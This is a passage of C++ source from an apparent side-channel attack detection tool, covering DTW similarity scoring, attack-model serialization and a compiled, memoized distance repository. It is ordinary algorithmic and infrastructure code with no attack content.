                                double min_similarity,
                                const DtwConfig& config) {
  BoundedScore out;
  const std::size_t n = a.size(), m = b.size();
  const double d_cut = detail::distance_cutoff(min_similarity, config);
  // No usable cutoff, or a pair too small for the shortcuts to pay off.
  if (!std::isfinite(d_cut) || n == 0 || m == 0 || n * m <= 16) {
    out.score = similarity(a, b, config);
    return out;
  }

  // Stage 1: O(n+m) lower bound.
  const double d_lb = cst_bbs_distance_lower_bound(a, b, config);
  if (d_lb * (1.0 - detail::kPruneSlack) > d_cut) {
    out.score = detail::similarity_from_distance(
        d_lb * (1.0 - detail::kPruneSlack), config);
    out.pruned = PruneKind::kLowerBound;
    return out;
  }

  // Stage 2: exact DP with early abandon (shared with the compiled kernel
  // and the scan cascade via core/dtw_internal.h).
  return detail::bounded_dp(
      n, m,
      [&a, &b, &config](std::size_t i, std::size_t j) {
        return cst_distance(a[i], b[j], config.distance);
      },
      d_cut, config);
}

DtwConfig calibrated_dtw_config() {
  DtwConfig config;
  config.distance.alphabet = IsAlphabet::kSemanticWeighted;
  config.normalization = DtwNormalization::kPathAveraged;
  config.cost_scale = 4.0;
  config.gamma = 3.5;
  config.length_penalty = 0.25;
  return config;
}

}  // namespace scag::core
