#include "core/serialize.h"

#include <bit>
#include <cctype>
#include <chrono>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <thread>

#include "support/failpoint.h"
#include "support/metrics.h"
#include "support/strings.h"

namespace scag::core {

namespace {

constexpr const char* kMagic = "scaguard-models v1";

std::string f2hex(double v) {
  return strfmt("%016llx",
                static_cast<unsigned long long>(std::bit_cast<std::uint64_t>(v)));
}

double hex2f(const std::string& s, std::size_t line) {
  if (s.size() != 16)
    throw SerializeError(line, "bad float field: " + s);
  std::uint64_t bits = 0;
  for (char c : s) {
    int digit;
    if (c >= '0' && c <= '9') digit = c - '0';
    else if (c >= 'a' && c <= 'f') digit = c - 'a' + 10;
    else throw SerializeError(line, "bad hex digit in float field: " + s);
    bits = (bits << 4) | static_cast<std::uint64_t>(digit);
  }
  return std::bit_cast<double>(bits);
}

std::uint64_t to_u64(const std::string& s, std::size_t line) {
  try {
    std::size_t used = 0;
    const unsigned long long v = std::stoull(s, &used, 10);
    if (used != s.size()) throw std::invalid_argument(s);
    return v;
  } catch (const std::exception&) {
    throw SerializeError(line, "bad integer field: " + s);
  }
}

bool contains_ws(const std::string& s) {
  for (char c : s)
    if (std::isspace(static_cast<unsigned char>(c))) return true;
  return false;
}

bool contains_linebreak(const std::string& s) {
  return s.find('\n') != std::string::npos ||
         s.find('\r') != std::string::npos;
}

/// Rejects models the line-oriented grammar cannot represent. Each rule
/// mirrors a way load_models would otherwise mis-parse the output:
/// whitespace in a name breaks the `model` record's field count, '|' in a
/// norm token shifts the split, edge whitespace is eaten by trim(), and
/// whitespace in (or empty) sem tokens changes the token count.
void validate_for_save(const AttackModel& m) {
  if (m.name.empty())
    throw SerializeError("cannot serialize model with an empty name");
  if (contains_ws(m.name))
    throw SerializeError("cannot serialize model name containing whitespace: "
                         "'" + m.name + "'");
  for (const CstBbsElement& e : m.sequence) {
    for (const std::string& t : e.norm_instrs) {
      if (t.empty() || t.find('|') != std::string::npos ||
          contains_linebreak(t) || trim(t) != t)
        throw SerializeError(
            "cannot serialize norm token '" + t + "' of model '" + m.name +
            "' (tokens must be non-empty, free of '|' and line breaks, "
            "with no leading/trailing whitespace)");
    }
    for (const std::string& t : e.sem_tokens) {
      if (t.empty() || contains_ws(t))
        throw SerializeError(
            "cannot serialize sem token '" + t + "' of model '" + m.name +
            "' (tokens must be non-empty and whitespace-free)");
    }
  }
}

}  // namespace

void save_models(std::ostream& out, const std::vector<AttackModel>& models) {
  for (const AttackModel& m : models) validate_for_save(m);
  static support::Counter& saved =
      support::Registry::global().counter("serialize.models_saved");
  saved.add(models.size());
  out << kMagic << "\n";
  for (const AttackModel& m : models) {
    out << "model " << m.name << " " << family_abbrev(m.family) << " "
        << m.sequence.size() << "\n";
    for (const CstBbsElement& e : m.sequence) {
      out << "elem " << e.block << " " << e.first_cycle << " "
          << f2hex(e.cst.before.ao) << " " << f2hex(e.cst.before.io) << " "
          << f2hex(e.cst.after.ao) << " " << f2hex(e.cst.after.io) << "\n";
      out << "norm " << join(e.norm_instrs, "|") << "\n";
      out << "sem " << join(e.sem_tokens, " ") << "\n";
    }
    out << "end\n";
  }
}

std::string save_models_to_string(const std::vector<AttackModel>& models) {
  std::ostringstream ss;
  save_models(ss, models);
  return ss.str();
}

void save_models_to_file(const std::string& path,
                         const std::vector<AttackModel>& models) {
  // Write-to-temp + rename: the destination either keeps its old content
  // or receives the complete new repository, never a truncated one.
  const std::string tmp = path + ".tmp";
  try {
    std::ofstream out(tmp, std::ios::trunc);
    if (!out || support::fp::hit("serialize.save.open"))
      throw IoError("cannot open for writing: " + tmp);
    save_models(out, models);
    out.flush();
    if (!out.good() || support::fp::hit("serialize.save.write"))
      throw IoError("write failed (disk full or I/O error): " + tmp);
    out.close();
    if (out.fail()) throw IoError("close failed: " + tmp);
  } catch (...) {
    std::error_code ignored;
    std::filesystem::remove(tmp, ignored);
    throw;
  }
  // The injected rename fault is evaluated *before* the real rename so a
  // firing failpoint leaves the destination untouched, like a real failure.
  std::error_code ec;
  if (support::fp::hit("serialize.save.rename")) {
    std::error_code ignored;
    std::filesystem::remove(tmp, ignored);
    throw IoError("cannot rename " + tmp + " to " + path +
                  ": injected fault (failpoint serialize.save.rename)");
  }
  std::filesystem::rename(tmp, path, ec);
  if (ec) {
    std::error_code ignored;
    std::filesystem::remove(tmp, ignored);
    throw IoError("cannot rename " + tmp + " to " + path + ": " +
                  ec.message());
  }
}

std::vector<AttackModel> load_models(std::istream& in) {
  std::vector<AttackModel> models;
  std::set<std::string> seen_names;
  std::string line;
  std::size_t lineno = 0;

  auto next_line = [&in, &line, &lineno]() -> bool {
    while (std::getline(in, line)) {
      ++lineno;
      if (support::fp::hit("serialize.load.read"))
        throw IoError("read failed at line " + std::to_string(lineno) +
                      ": injected fault (failpoint serialize.load.read)");
      if (!trim(line).empty()) return true;
    }
    // Distinguish EOF from a mid-stream I/O failure: bad() means the
    // underlying device errored, which is transient-class, not a parse
    // problem with the content.
    if (in.bad())
      throw IoError("read failed after line " + std::to_string(lineno));
    return false;
  };

  if (!next_line() || trim(line) != kMagic)
    throw SerializeError(lineno == 0 ? 1 : lineno,
                         "missing repository header '" + std::string(kMagic) +
                             "'");

  while (next_line()) {
    const auto head = split_ws(line);
    if (head.size() != 4 || head[0] != "model")
      throw SerializeError(lineno, "expected 'model <name> <family> <n>'");
    AttackModel model;
    model.name = head[1];
    if (!seen_names.insert(model.name).second)
      throw SerializeError(lineno, "duplicate model name '" + model.name +
                                       "'");
    const auto family = parse_family(head[2]);
    if (!family) throw SerializeError(lineno, "unknown family " + head[2]);
    model.family = *family;
    const std::uint64_t count = to_u64(head[3], lineno);
    if (count > kMaxModelElements)
      throw SerializeError(
          lineno, "element count " + head[3] + " of model '" + model.name +
                      "' exceeds the limit of " +
                      std::to_string(kMaxModelElements));

    for (std::uint64_t i = 0; i < count; ++i) {
      if (!next_line()) throw SerializeError(lineno, "truncated element");
      const auto elem_fields = split_ws(line);
      if (elem_fields.size() != 7 || elem_fields[0] != "elem")
        throw SerializeError(lineno, "expected 'elem' record");
      CstBbsElement elem;
      elem.block =
          static_cast<cfg::BlockId>(to_u64(elem_fields[1], lineno));
      elem.first_cycle = to_u64(elem_fields[2], lineno);
      elem.cst.before.ao = hex2f(elem_fields[3], lineno);
      elem.cst.before.io = hex2f(elem_fields[4], lineno);
      elem.cst.after.ao = hex2f(elem_fields[5], lineno);
      elem.cst.after.io = hex2f(elem_fields[6], lineno);

      if (!next_line() || !starts_with(trim(line), "norm"))
        throw SerializeError(lineno, "expected 'norm' record");
      {
        const std::string payload = trim(trim(line).substr(4));
        if (!payload.empty()) elem.norm_instrs = split(payload, '|');
      }

      if (!next_line() || !starts_with(trim(line), "sem"))
        throw SerializeError(lineno, "expected 'sem' record");
      {
        const std::string payload = trim(trim(line).substr(3));
        if (!payload.empty()) elem.sem_tokens = split_ws(payload);
      }
      model.sequence.push_back(std::move(elem));
    }

    if (!next_line() || trim(line) != "end")
      throw SerializeError(lineno, "expected 'end' after model " + model.name);
    models.push_back(std::move(model));
  }
  static support::Counter& loaded =
      support::Registry::global().counter("serialize.models_loaded");
  loaded.add(models.size());
  return models;
}

std::vector<AttackModel> load_models_from_string(const std::string& text) {
  std::istringstream ss(text);
  return load_models(ss);
}

std::vector<AttackModel> load_models_from_file(const std::string& path) {
  std::ifstream in(path);
  if (!in || support::fp::hit("serialize.load.open"))
    throw IoError("cannot open for reading: " + path);
  return load_models(in);
}

std::vector<AttackModel> load_models_from_file(const std::string& path,
                                               const RetryPolicy& policy) {
  static support::Counter& retries =
      support::Registry::global().counter("serialize.load_retries");
  const std::uint32_t attempts = std::max<std::uint32_t>(1, policy.max_attempts);
  double backoff_ms = policy.initial_backoff_ms;
  for (std::uint32_t attempt = 1;; ++attempt) {
    try {
      return load_models_from_file(path);
    } catch (const IoError& e) {
      if (attempt >= attempts)
        throw IoError(std::string(e.what()) + " (after " +
                      std::to_string(attempts) + " attempts)");
      retries.add();
      std::this_thread::sleep_for(std::chrono::duration<double, std::milli>(
          backoff_ms));
      backoff_ms *= policy.multiplier;
    }
    // SerializeError deliberately escapes: malformed content is terminal.
  }
}

}  // namespace scag::core
