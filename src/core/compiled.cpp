#include "core/compiled.h"

#include <algorithm>
#include <bit>
#include <cmath>
#include <stdexcept>

#include "core/cst.h"
#include "core/dtw_internal.h"
#include "core/simd.h"
#include "isa/normalize.h"
#include "support/failpoint.h"
#include "support/metrics.h"

namespace scag::core {

namespace {

constexpr double kNanSentinel = std::numeric_limits<double>::quiet_NaN();

struct CompiledCounters {
  support::Counter& models;
  support::Counter& targets;
  support::Counter& compile_ns;
  support::Counter& memo_hits;
  support::Counter& memo_misses;
  support::Counter& scratch_grows;

  static CompiledCounters& global() {
    support::Registry& r = support::Registry::global();
    static CompiledCounters c{r.counter("compiled.models"),
                              r.counter("compiled.targets"),
                              r.counter("compiled.compile_ns"),
                              r.counter("compiled.memo_hits"),
                              r.counter("compiled.memo_misses"),
                              r.counter("compiled.scratch_grows")};
    return c;
  }
};

/// RAII compile timer feeding the "compiled.compile_ns" counter.
class CompileTimer {
 public:
  CompileTimer() : start_(support::metrics_enabled() ? support::monotonic_ns() : 0) {}
  ~CompileTimer() {
    if (start_ != 0)
      CompiledCounters::global().compile_ns.add(support::monotonic_ns() -
                                                start_);
  }
  CompileTimer(const CompileTimer&) = delete;
  CompileTimer& operator=(const CompileTimer&) = delete;

 private:
  std::uint64_t start_;
};

/// Thread-local DP scratch rows: zero allocations in the element-distance
/// inner loop once warm. Growth events are counted so the throughput
/// bench can assert the steady state ("compiled.scratch_grows" plateaus).
struct Scratch {
  std::vector<std::size_t> irow;
  std::vector<double> dprev, dcur;
};

Scratch& tls_scratch() {
  thread_local Scratch s;
  return s;
}

template <class Vec>
void ensure_size(Vec& v, std::size_t need) {
  if (need > v.capacity()) CompiledCounters::global().scratch_grows.add();
  if (v.size() < need) v.resize(need);
}

/// Unit-cost Levenshtein over interned token ids; bit-identical to
/// core::levenshtein over the corresponding strings (identical strings <=>
/// identical ids).
std::size_t lev_ids(const TokenId* a, std::size_t na, const TokenId* b,
                    std::size_t nb) {
  // Ensure the inner dimension is the shorter sequence (same tie-break as
  // the string kernel: a is "longer" when lengths are equal).
  const TokenId* lp = a;
  std::size_t ln = na;
  const TokenId* sp = b;
  std::size_t sn = nb;
  if (na < nb) {
    lp = b;
    ln = nb;
    sp = a;
    sn = na;
  }
  if (sn == 0) return ln;

  std::vector<std::size_t>& row = tls_scratch().irow;
  ensure_size(row, sn + 1);
  for (std::size_t j = 0; j <= sn; ++j) row[j] = j;
  for (std::size_t i = 1; i <= ln; ++i) {
    std::size_t prev_diag = row[0];
    row[0] = i;
    for (std::size_t j = 1; j <= sn; ++j) {
      const std::size_t del = row[j] + 1;
      const std::size_t ins = row[j - 1] + 1;
      const std::size_t sub = prev_diag + (lp[i - 1] == sp[j - 1] ? 0 : 1);
      prev_diag = row[j];
      row[j] = std::min({del, ins, sub});
    }
  }
  return row[sn];
}

/// Weighted Levenshtein over interned ids with table-driven weights and
/// substitution costs; replicates core::weighted_levenshtein /
/// isa::semantic_subst_cost expression for expression.
double wlev_ids(const TokenId* a, std::size_t n, const TokenId* b,
                std::size_t m, const double* w, const std::uint8_t* cls) {
  constexpr auto kMem = static_cast<std::uint8_t>(isa::SemanticClass::kMemory);
  constexpr auto kFlow =
      static_cast<std::uint8_t>(isa::SemanticClass::kControlFlow);
  Scratch& s = tls_scratch();
  ensure_size(s.dprev, m + 1);
  ensure_size(s.dcur, m + 1);
  double* prev = s.dprev.data();
  double* cur = s.dcur.data();

  prev[0] = 0.0;
  for (std::size_t j = 1; j <= m; ++j) prev[j] = prev[j - 1] + w[b[j - 1]];
  for (std::size_t i = 1; i <= n; ++i) {
    const TokenId x = a[i - 1];
    const double wx = w[x];
    cur[0] = prev[0] + wx;
    for (std::size_t j = 1; j <= m; ++j) {
      const TokenId y = b[j - 1];
      const double del = prev[j] + wx;
      const double ins = cur[j - 1] + w[y];
      double sub_cost;
      if (x == y) {
        sub_cost = 0.0;
      } else if (cls[x] == kMem && cls[y] == kMem) {
        sub_cost = 0.2;
      } else if (cls[x] == kFlow && cls[y] == kFlow) {
        sub_cost = 0.15;
      } else {
        sub_cost = (wx + w[y]) / 2.0;
      }
      const double sub = prev[j - 1] + sub_cost;
      cur[j] = std::min({del, ins, sub});
    }
    std::swap(prev, cur);
  }
  return prev[m];
}

/// == cst_distance(a_elem, b_elem, dc) over compiled data, uncached.
double raw_element_distance(const CompiledSeq& a, std::size_t i,
                            const CompiledSeq& b, std::size_t j,
                            const double* w, const std::uint8_t* cls,
                            const DistanceConfig& dc) {
  double is = 0.0;
  switch (dc.alphabet) {
    case IsAlphabet::kFullTokens: {
      const std::size_t na = a.token_count(i), nb = b.token_count(j);
      const std::size_t longest = std::max(na, nb);
      if (longest != 0) {
        is = static_cast<double>(
                 lev_ids(a.token_begin(i), na, b.token_begin(j), nb)) /
             static_cast<double>(longest);
      }
      break;
    }
    case IsAlphabet::kSemanticWeighted: {
      const double denom = std::max(a.features.mass[i], b.features.mass[j]);
      if (denom != 0.0) {
        is = std::min(1.0, wlev_ids(a.token_begin(i), a.token_count(i),
                                    b.token_begin(j), b.token_count(j), w,
                                    cls) /
                               denom);
      }
      break;
    }
  }
  return dc.is_weight * is +
         (1.0 - dc.is_weight) * abs_diff(a.features.csp[i], b.features.csp[j]);
}

/// Bundles the per-(target, model) query state so the DTW cost lambda
/// stays a two-index functor.
struct PairContext {
  const CompiledTarget& target;
  const CompiledRepository& repo;
  std::size_t model_index;
  ElementDistanceMemo& memo;
  const DistanceConfig& dc;
  ElementDistanceMemo::Stats* stats;

  double operator()(std::size_t i, std::size_t j) const {
    return compiled_element_distance(target, i, repo, model_index, j, memo,
                                     dc, stats);
  }

  /// Anti-diagonal bulk gather for the wavefront kernel (dtw_wavefront.h):
  /// fills cbuf[j] = (*this)(d - j - 1, j - 1) for every j in
  /// [j_lo, j_hi], bit-for-bit. Warm memo lanes come from one vectorized
  /// table gather; cold lanes (the NaN sentinel passes through) fall back
  /// to the scalar miss path, which also keeps hit/miss accounting
  /// identical to the scalar kernel's — a pair duplicated within one
  /// diagonal misses once and hits on the later lane, same as the row
  /// loop.
  void gather_diag(std::size_t d, std::size_t j_lo, std::size_t j_hi,
                   double* cbuf) const {
    const simd::PairGatherFn fn = simd::pair_gather();
    if (fn == nullptr) {
      for (std::size_t j = j_lo; j <= j_hi; ++j)
        cbuf[j] = (*this)(d - j - 1, j - 1);
      return;
    }
    const CompiledSeq& a = target.seq;
    const CompiledSeq& b = repo.model(model_index);
    fn(memo.raw(), memo.stride(), a.elem.data() + (d - j_lo - 1),
       b.elem.data() + (j_lo - 1), cbuf + j_lo, j_hi - j_lo + 1);
    for (std::size_t j = j_lo; j <= j_hi; ++j) {
      if (std::isnan(cbuf[j]))
        cbuf[j] = (*this)(d - j - 1, j - 1);
      else if (stats != nullptr)
        ++stats->hits;
    }
  }
};

}  // namespace

// ---------------------------------------------------------------------------
// TokenInterner

TokenId TokenInterner::intern(const std::string& token) {
  if (mapped_)
    throw std::logic_error(
        "TokenInterner::intern: store-backed interner is frozen");
  const auto [it, inserted] =
      ids_.try_emplace(token, static_cast<TokenId>(weight_.size()));
  if (inserted) {
    weight_.push_back(weight_of(token));
    cls_.push_back(class_of(token));
  }
  return it->second;
}

TokenId TokenInterner::find(const std::string& token) const {
  if (!mapped_) {
    const auto it = ids_.find(token);
    return it == ids_.end() ? kNoToken : it->second;
  }
  // Mapped mode: probe the serialized open-addressing table. The store
  // validator guarantees at least one empty slot, so the bounded linear
  // probe below terminates even on a hostile (but structurally valid)
  // table.
  if (view_.count == 0) return kNoToken;
  const std::uint64_t h = fnv1a64(token.data(), token.size());
  for (std::uint64_t i = 0; i <= view_.probe_mask; ++i) {
    const std::uint32_t slot = view_.probe[(h + i) & view_.probe_mask];
    if (slot == kNoToken) return kNoToken;
    if (string_of(slot) == token) return slot;
  }
  return kNoToken;
}

std::vector<std::string_view> TokenInterner::strings_by_id() const {
  std::vector<std::string_view> out(size());
  if (mapped_) {
    for (TokenId id = 0; id < view_.count; ++id) out[id] = string_of(id);
  } else {
    for (const auto& [s, id] : ids_) out[id] = s;
  }
  return out;
}

std::string_view TokenInterner::string_of(TokenId id) const {
  if (mapped_) {
    return {view_.blob + view_.str_off[id],
            view_.str_off[id + 1] - view_.str_off[id]};
  }
  for (const auto& [s, tid] : ids_)
    if (tid == id) return s;
  return {};
}

void TokenInterner::attach(const TokenTableView& view) {
  ids_.clear();
  weight_.clear();
  cls_.clear();
  view_ = view;
  mapped_ = true;
}

double TokenInterner::weight_of(const std::string& token) {
  return isa::semantic_token_weight(token);
}

std::uint8_t TokenInterner::class_of(const std::string& token) {
  return static_cast<std::uint8_t>(isa::semantic_token_class(token));
}

// ---------------------------------------------------------------------------
// CompiledRepository

std::size_t CompiledRepository::ElemKeyHash::operator()(
    const ElemKey& k) const {
  // FNV-1a over the token ids and the change bit pattern.
  std::uint64_t h = 1469598103934665603ull;
  const auto mix = [&h](std::uint64_t v) {
    h ^= v;
    h *= 1099511628211ull;
  };
  for (const TokenId t : k.tokens) mix(t);
  mix(k.change_bits);
  return static_cast<std::size_t>(h);
}

CompiledRepository::CompiledRepository(StoreView view)
    : dc_(view.dc), frozen_(true), frozen_unique_(view.unique_elements),
      models_(std::move(view.models)) {
  interner_.attach(view.tokens);
  CompiledCounters::global().models.add(models_.size());
}

void CompiledRepository::rebuild_views() {
  // Arena push_backs may have reallocated, so every model view is
  // re-derived from its extent. O(num_models) pointer writes per add().
  models_.resize(extents_.size());
  for (std::size_t k = 0; k < extents_.size(); ++k) {
    const ModelExtent& e = extents_[k];
    CompiledSeq& v = models_[k];
    v.tokens = tok_arena_.data();
    v.offsets = off_arena_.data() + e.elem_start;
    v.elem = {elem_arena_.data() + e.elem_start, e.elem_count};
    v.features.csp = {csp_arena_.data() + e.elem_start, e.elem_count};
    v.features.count = {count_arena_.data() + e.elem_start, e.elem_count};
    v.features.mass = {mass_arena_.data() + e.elem_start, e.elem_count};
    v.features.csp_lo = e.csp_lo;
    v.features.csp_hi = e.csp_hi;
    v.features.count_lo = e.count_lo;
    v.features.count_hi = e.count_hi;
    v.features.mass_hi = e.mass_hi;
  }
}

void CompiledRepository::add(const CstBbs& sequence) {
  if (frozen_)
    throw std::logic_error(
        "CompiledRepository::add: store-backed repository is frozen");
  CompileTimer timer;
  ModelExtent ext;
  ext.elem_start = static_cast<std::uint32_t>(elem_arena_.size());
  ext.elem_count = static_cast<std::uint32_t>(sequence.size());
  for (const CstBbsElement& e : sequence) {
    const std::vector<std::string>& toks =
        dc_.alphabet == IsAlphabet::kFullTokens ? e.norm_instrs
                                                : e.sem_tokens;
    for (const std::string& t : toks)
      tok_arena_.push_back(interner_.intern(t));
    off_arena_.push_back(static_cast<std::uint32_t>(tok_arena_.size()));

    ElemKey key;
    key.tokens.assign(
        tok_arena_.end() - static_cast<std::ptrdiff_t>(toks.size()),
        tok_arena_.end());
    key.change_bits = std::bit_cast<std::uint64_t>(e.cst.change());
    const auto [it, inserted] = elem_ids_.try_emplace(
        std::move(key), static_cast<std::uint32_t>(elem_ids_.size()));
    elem_arena_.push_back(it->second);
  }
  const SequenceFeatures f = compute_sequence_features(sequence, dc_);
  csp_arena_.insert(csp_arena_.end(), f.csp.begin(), f.csp.end());
  count_arena_.insert(count_arena_.end(), f.count.begin(), f.count.end());
  mass_arena_.insert(mass_arena_.end(), f.mass.begin(), f.mass.end());
  ext.csp_lo = f.csp_lo;
  ext.csp_hi = f.csp_hi;
  ext.count_lo = f.count_lo;
  ext.count_hi = f.count_hi;
  ext.mass_hi = f.mass_hi;
  extents_.push_back(ext);
  rebuild_views();
  CompiledCounters::global().models.add();
}

CompiledTarget CompiledRepository::compile_target(
    const CstBbs& sequence) const {
  // Failpoint: scan paths catch this and fall back to the string kernels
  // (bit-identical scores), so a broken fast path degrades, never aborts.
  if (support::fp::hit("compiled.compile_target"))
    throw support::fp::FailpointError("compiled.compile_target");
  CompileTimer timer;
  CompiledTarget t;
  const bool weighted = dc_.alphabet == IsAlphabet::kSemanticWeighted;
  if (weighted) {
    // Works in both interner modes (copies out of the mapping when
    // store-backed); values are identical either way.
    t.weight.assign(interner_.weight_data(),
                    interner_.weight_data() + interner_.size());
    t.cls.assign(interner_.class_data(),
                 interner_.class_data() + interner_.size());
  }
  // Local extensions: unseen tokens get ids after the frozen interner's,
  // unseen elements get target-side dedup ids. The shared repository is
  // never written, so concurrent target compiles are race-free.
  std::unordered_map<std::string, TokenId> local_ids;
  ElemRegistry local_elems;

  t.off_store.reserve(sequence.size() + 1);
  t.off_store.push_back(0);
  t.elem_store.reserve(sequence.size());
  for (const CstBbsElement& e : sequence) {
    const std::vector<std::string>& toks =
        dc_.alphabet == IsAlphabet::kFullTokens ? e.norm_instrs
                                                : e.sem_tokens;
    for (const std::string& tok : toks) {
      TokenId id = interner_.find(tok);
      if (id == TokenInterner::kNoToken) {
        const auto [it, inserted] = local_ids.try_emplace(
            tok,
            static_cast<TokenId>(interner_.size() + local_ids.size()));
        id = it->second;
        if (inserted && weighted) {
          t.weight.push_back(TokenInterner::weight_of(tok));
          t.cls.push_back(TokenInterner::class_of(tok));
        }
      }
      t.tok_store.push_back(id);
    }
    t.off_store.push_back(static_cast<std::uint32_t>(t.tok_store.size()));

    ElemKey key;
    key.tokens.assign(
        t.tok_store.end() - static_cast<std::ptrdiff_t>(toks.size()),
        t.tok_store.end());
    key.change_bits = std::bit_cast<std::uint64_t>(e.cst.change());
    const auto [it, inserted] = local_elems.try_emplace(
        std::move(key), static_cast<std::uint32_t>(local_elems.size()));
    t.elem_store.push_back(it->second);
  }
  t.unique_elements = static_cast<std::uint32_t>(local_elems.size());
  t.feat_store = compute_sequence_features(sequence, dc_);
  t.rebind_views();
  CompiledCounters::global().targets.add();
  return t;
}

// ---------------------------------------------------------------------------
// ElementDistanceMemo

ElementDistanceMemo::ElementDistanceMemo(std::uint32_t target_unique,
                                         std::uint32_t repo_unique)
    : stride_(repo_unique),
      cells_(static_cast<std::size_t>(target_unique) * repo_unique) {
  for (std::atomic<double>& c : cells_)
    c.store(kNanSentinel, std::memory_order_relaxed);
}

// ---------------------------------------------------------------------------
// Query kernels

double compiled_element_distance(const CompiledTarget& target, std::size_t i,
                                 const CompiledRepository& repo,
                                 std::size_t model_index, std::size_t k,
                                 ElementDistanceMemo& memo,
                                 const DistanceConfig& config,
                                 ElementDistanceMemo::Stats* memo_stats) {
  const CompiledSeq& a = target.seq;
  const CompiledSeq& b = repo.model(model_index);
  const std::uint32_t tu = a.elem[i];
  const std::uint32_t ru = b.elem[k];
  double v = memo.load(tu, ru);
  if (!std::isnan(v)) {
    if (memo_stats != nullptr) ++memo_stats->hits;
    return v;
  }
  v = raw_element_distance(a, i, b, k, target.weight.data(),
                           target.cls.data(), config);
  memo.store(tu, ru, v);
  if (memo_stats != nullptr) ++memo_stats->misses;
  return v;
}

double compiled_cst_bbs_distance(const CompiledTarget& target,
                                 const CompiledRepository& repo,
                                 std::size_t model_index,
                                 ElementDistanceMemo& memo,
                                 const DtwConfig& config,
                                 ElementDistanceMemo::Stats* memo_stats) {
  const CompiledSeq& b = repo.model(model_index);
  const std::size_t n = target.seq.size(), m = b.size();
  const PairContext cost{target, repo,       model_index,
                         memo,   config.distance, memo_stats};
  const DtwResult r = dtw_run(n, m, cost, config);
  return detail::finish_distance(r, n, m, config);
}

double compiled_cst_bbs_distance_lower_bound(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo,
    const DtwConfig& config, ElementDistanceMemo::Stats* memo_stats) {
  const CompiledSeq& a = target.seq;
  const CompiledSeq& b = repo.model(model_index);
  const std::size_t n = a.size(), m = b.size();
  // Degenerate alignments are O(1) to evaluate exactly.
  if (n == 0 || m == 0)
    return compiled_cst_bbs_distance(target, repo, model_index, memo, config,
                                     memo_stats);

  // LB_Kim: the warping path always pays the (first, first) cost, and —
  // when the path has more than one cell — the (last, last) cost too.
  double kim = compiled_element_distance(target, 0, repo, model_index, 0,
                                         memo, config.distance, memo_stats);
  if (n + m > 2)
    kim += compiled_element_distance(target, n - 1, repo, model_index, m - 1,
                                     memo, config.distance, memo_stats);

  double d = std::max(kim, detail::envelope_lower_bound(
                               a.features, b.features, config.distance));
  if (config.normalization == DtwNormalization::kPathAveraged)
    d /= static_cast<double>(n + m - 1);  // the longest possible path
  return d * detail::penalty_factor(n, m, config);
}

double compiled_cst_bbs_distance_lower_bound_kim(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo,
    const DtwConfig& config, ElementDistanceMemo::Stats* memo_stats) {
  const std::size_t n = target.seq.size();
  const std::size_t m = repo.model(model_index).size();
  if (n == 0 || m == 0)
    return compiled_cst_bbs_distance(target, repo, model_index, memo, config,
                                     memo_stats);

  double kim = compiled_element_distance(target, 0, repo, model_index, 0,
                                         memo, config.distance, memo_stats);
  if (n + m > 2)
    kim += compiled_element_distance(target, n - 1, repo, model_index, m - 1,
                                     memo, config.distance, memo_stats);
  if (config.normalization == DtwNormalization::kPathAveraged)
    kim /= static_cast<double>(n + m - 1);  // the longest possible path
  return kim * detail::penalty_factor(n, m, config);
}

double compiled_similarity(const CompiledTarget& target,
                           const CompiledRepository& repo,
                           std::size_t model_index, ElementDistanceMemo& memo,
                           const DtwConfig& config,
                           ElementDistanceMemo::Stats* memo_stats) {
  return detail::similarity_from_distance(
      compiled_cst_bbs_distance(target, repo, model_index, memo, config,
                                memo_stats),
      config);
}

BoundedScore compiled_bounded_similarity(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo, double min_similarity,
    const DtwConfig& config, ElementDistanceMemo::Stats* memo_stats) {
  BoundedScore out;
  const CompiledSeq& b = repo.model(model_index);
  const std::size_t n = target.seq.size(), m = b.size();
  const double d_cut = detail::distance_cutoff(min_similarity, config);
  // No usable cutoff, or a pair too small for the shortcuts to pay off.
  if (!std::isfinite(d_cut) || n == 0 || m == 0 || n * m <= 16) {
    out.score = compiled_similarity(target, repo, model_index, memo, config,
                                    memo_stats);
    return out;
  }

  // Stage 1: O(n+m) lower bound (envelope features precomputed at compile
  // time — nothing is rebuilt per pair).
  const double d_lb = compiled_cst_bbs_distance_lower_bound(
      target, repo, model_index, memo, config, memo_stats);
  if (d_lb * (1.0 - detail::kPruneSlack) > d_cut) {
    out.score = detail::similarity_from_distance(
        d_lb * (1.0 - detail::kPruneSlack), config);
    out.pruned = PruneKind::kLowerBound;
    return out;
  }

  // Stage 2: exact DP with early abandon (shared with the string kernel
  // and the scan cascade via core/dtw_internal.h).
  const PairContext cost{target, repo,       model_index,
                         memo,   config.distance, memo_stats};
  return detail::bounded_dp(n, m, cost, d_cut, config);
}

void flush_memo_stats(const ElementDistanceMemo::Stats& stats) {
  CompiledCounters& c = CompiledCounters::global();
  if (stats.hits != 0) c.memo_hits.add(stats.hits);
  if (stats.misses != 0) c.memo_misses.add(stats.misses);
}

}  // namespace scag::core
