#include "core/explain.h"

#include <algorithm>
#include <bit>
#include <cmath>

#include "core/batch_detector.h"
#include "core/distance.h"
#include "core/dtw_internal.h"
#include "support/metrics.h"
#include "support/strings.h"
#include "support/table.h"
#include "support/trace.h"

namespace scag::core {

namespace {

/// Predecessor of a DP cell, in the kernel's tie-break preference order.
enum class Step : std::uint8_t {
  kNone = 0,
  kDiag,  // from (i-1, j-1): both sequences advance
  kUp,    // from (i-1, j): target advances alone
  kLeft,  // from (i, j-1): model advances alone
};

/// The effective Sakoe-Chiba half-width, exactly as dtw() widens it.
std::size_t effective_band(std::size_t n, std::size_t m,
                           const DtwConfig& config) {
  if (n == 0 || m == 0) return 0;
  return config.window == 0
             ? std::max(n, m)
             : std::max(config.window, n > m ? n - m : m - n);
}

/// Decomposed cost of aligning a[i] with b[j]. The combined value is the
/// exact cst_distance expression, so it is bit-identical to what the scan
/// kernel paid for this cell.
AlignedPair make_pair(const CstBbs& a, const CstBbs& b, std::size_t i,
                      std::size_t j, const DistanceConfig& dc) {
  AlignedPair p;
  p.target_index = i;
  p.model_index = j;
  p.target_block = a[i].block;
  p.model_block = b[j].block;
  p.is_distance = instruction_distance(a[i], b[j], dc);
  p.csp_distance = csp_distance(a[i].cst, b[j].cst);
  p.cost = dc.is_weight * p.is_distance +
